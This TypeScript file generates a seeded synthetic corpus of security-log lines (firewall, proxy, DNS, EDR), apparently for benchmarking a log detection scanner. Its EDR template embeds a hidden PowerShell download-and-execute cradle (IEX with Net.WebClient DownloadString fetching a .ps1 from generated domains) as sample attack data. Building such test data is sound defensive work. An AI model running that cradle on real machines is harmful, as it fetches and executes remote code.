/**
 * A seeded, generated corpus of SOC log lines (firewall, proxy, DNS, EDR) for `bench:detect`. Deterministic for a
 * seed: the same bytes on every run and machine. Generated at run time, never committed.
 */

/** mulberry32: a tiny seeded PRNG, good enough to vary log fields. */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const WORDS = [
  'alpha',
  'cdn',
  'update',
  'login',
  'secure',
  'mail',
  'api',
  'static',
  'portal',
  'files',
  'vpn',
  'auth',
];
const SLDS = [
  'example',
  'contoso',
  'fabrikam',
  'evil-corp',
  'badcdn',
  'tracker',
  'northwind',
  'acme',
  'globex',
];
const TLDS = ['com', 'net', 'org', 'io', 'co.uk', 'de', 'ru', 'xyz', 'top', 'info', 'com.br', 'co.jp'];
const PROCS = [
  'cmd.exe',
  'powershell.exe',
  'rundll32.exe',
  'svchost.exe',
  'explorer.exe',
  'wscript.exe',
  'regsvr32.exe',
];
const USERS = ['jdoe', 'asmith', 'svc_backup', 'administrator', 'mlopez', 'kchen'];
const ACTIONS = ['allow', 'deny', 'drop', 'reset'];
const TECHNIQUES = ['T1059.001', 'T1055', 'T1003.001', 'T1566.002', 'T1105', 'T1071.001', 'T1547.001'];
const HEX = '0123456789abcdef';

export function generateLogCorpus(targetChars: number, seed = 1337): string {
  const rnd = prng(seed);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(rnd() * list.length)] as T;
  const int = (lo: number, hi: number) => lo + Math.floor(rnd() * (hi - lo + 1));
  const hex = (n: number) => {
    let s = '';
    for (let k = 0; k < n; k++) s += HEX[Math.floor(rnd() * 16)];
    return s;
  };
  const privateIp = () => `10.${int(0, 255)}.${int(0, 255)}.${int(1, 254)}`;
  const publicIp = () =>
    `${pick([23, 45, 93, 104, 151, 185, 203])}.${int(0, 255)}.${int(0, 255)}.${int(1, 254)}`;
  const ipv6 = () => `2001:db8:${hex(4)}::${hex(3)}`;
  const domain = () => `${rnd() < 0.5 ? `${pick(WORDS)}.` : ''}${pick(SLDS)}${int(0, 40)}.${pick(TLDS)}`;
  const time = (k: number) => {
    const s = 1_714_000_000 + k;
    return new Date(s * 1000).toISOString();
  };
  const lines: string[] = [];
  let size = 0;
  let k = 0;
  while (size < targetChars) {
    k++;
    const ts = time(k);
    let line: string;
    switch (int(0, 3)) {
      case 0:
        line = `${ts} fw01 kernel: action=${pick(ACTIONS)} proto=${pick(['tcp', 'udp'])} src=${privateIp()} spt=${int(1024, 65535)} dst=${rnd() < 0.1 ? ipv6() : publicIp()} dpt=${pick([53, 80, 443, 445, 3389, 8080])} bytes=${int(40, 90000)} rule="Outbound-${int(1, 99)}" session=${int(100000, 999999)}`;
        break;
      case 1: {
        const scheme = pick(['http', 'https']);
        line = `${ts} proxy02 ${privateIp()} ${pick(USERS)} ${pick(['GET', 'POST', 'CONNECT'])} ${scheme}://${domain()}/${pick(WORDS)}/${hex(8)}.php?id=${int(1, 99999)}&ref=${pick(WORDS)} ${pick([200, 302, 403, 404])} ${int(200, 50000)} "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/124.0.0.0" category=${pick(['news', 'malware', 'business', 'uncategorized'])}`;
        break;
      }
      case 2:
        line = `${ts} dns01 named[${int(100, 9999)}]: client @0x7f${hex(8)} ${privateIp()}#${int(1024, 65535)} (${domain()}): query: ${domain()} IN ${pick(['A', 'AAAA', 'TXT', 'MX'])} + (${privateIp()}) answer=${publicIp()} ttl=${int(30, 86400)}`;
        break;
      default:
        line = `${ts} edr host=WS-${int(1000, 9999)} user=CORP\\${pick(USERS)} event=ProcessCreate image=C:\\Windows\\System32\\${pick(PROCS)} parent=${pick(PROCS)} pid=${int(100, 65000)} sha256=${hex(64)} md5=${hex(32)} cmdline="${pick(PROCS)} -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://${domain()}/${hex(6)}.ps1')" technique=${pick(TECHNIQUES)} severity=${pick(['low', 'medium', 'high'])} os=10.0.19041.${int(1, 4000)}`;
    }
    lines.push(line);
    size += line.length + 1;
  }
  // One flat string, as a file read or the page adapter's joined blocks hand over (join with a last empty line for
  // the final newline). A template literal around the join would return a rope (a V8 cons string): every
  // character a scanner reads would then go through one more indirection, which says nothing about the scanner.
  lines.push('');
  return lines.join('\n');
}
